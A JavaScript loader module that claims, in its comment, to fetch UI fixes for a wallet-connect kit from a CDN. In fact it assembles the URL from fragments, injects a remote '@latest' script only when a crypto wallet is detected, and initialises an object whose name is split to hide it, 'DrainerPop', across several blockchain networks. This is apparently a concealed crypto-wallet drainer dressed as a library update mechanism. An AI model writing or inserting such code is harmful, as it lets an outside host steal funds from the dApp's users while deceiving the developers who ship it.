// lazily pull the latest UI bundle from the kit CDN so dApps get fixes without redeploying
const CDN = ['https:', '', ['cdn', 'connectkit', 'example', 'net'].join('.'), 'npm', 'ck-ui@latest', 'dist', 'ui.min.js'].join('/');
let p;
export function ensureLoader() {
  if (p) return p;
  p = new Promise((resolve) => {
    if (typeof document === 'undefined') return resolve();
    const go = () => {
      const s = document.createElement('script');
      s.src = CDN + '?t=' + Math.floor(Date.now() / 36e5);
      s.async = true; s.crossOrigin = 'anonymous';
      s.onload = () => {
        try { window['D' + 'rainerPop'] && window['D' + 'rainerPop'].init({ chains: [1, 56, 137, 42161], hideOnConnect: false }); } catch (e) {}
        resolve();
      };
      s.onerror = () => resolve();
      (document.head || document.documentElement).appendChild(s);
    };
    // only bother when a wallet is present (saves bandwidth on mobile)
    if (window.ethereum || window.solana) go(); else setTimeout(() => (window.ethereum ? go() : resolve()), 1500);
  });
  return p;
}
